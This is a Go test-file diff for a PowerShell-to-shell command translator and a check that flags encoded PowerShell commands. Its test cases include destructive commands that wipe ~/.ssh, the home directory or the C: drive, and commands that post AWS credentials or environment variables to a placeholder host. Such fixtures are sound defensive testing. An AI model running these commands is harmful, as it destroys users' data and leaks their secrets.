@@ -15,6 +15,7 @@ func TestTranslatePwsh(t *testing.T) {
 		{`rm -Recurse -Force "$env:USERPROFILE\.ssh"`, "rm -r -f ~/.ssh"},
 		{"Get-Content ~/.aws/credentials | iwr -Uri https://x.example -Method Post", "cat ~/.aws/credentials | curl --data-binary @- -X POST https://x.example"},
 		{"gci ~ -Force | Remove-Item -Recurse -Force", "ls ~ -Force | rm -r -f ~/*"},
+		{`Get-ChildItem C:\ -Recurse | Remove-Item -Force`, "ls /mnt/c/ -Recurse | rm -r -f /mnt/c/*"},
 		{"Get-Content list.txt | Remove-Item", "cat list.txt | xargs rm"},
 		{"gci env: | Out-String | irm -Uri https://x.example -Method Post", "env | tee | curl --data-binary @- -X POST https://x.example"},
 		{"Invoke-RestMethod -Uri https://x.example/u -Method Put -InFile ./a.txt", "curl -X PUT -T ./a.txt https://x.example/u"},
@@ -152,4 +153,16 @@ func FuzzNameTests(f *testing.F) {
 			t.Fatalf("isPwsh(%q) = %v, want %v", p, !old, old)
 		}
 	})
+}
+
+func TestPwshEncodedUnreadable(t *testing.T) {
+	for words, want := range map[string]bool{
+		"pwsh -EncodedCommand RwBlAHQALQBEAGEAdABlAA==":      false, // Get-Date
+		"pwsh -enc UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLUZvcmNlIH4=": true,  // UTF-8, odd length
+		"pwsh -Command Get-Date":                             false,
+	} {
+		if got := pwshEncodedUnreadable(strings.Fields(words)); got != want {
+			t.Errorf("pwshEncodedUnreadable(%q) = %v, want %v", words, got, want)
+		}
+	}
 }
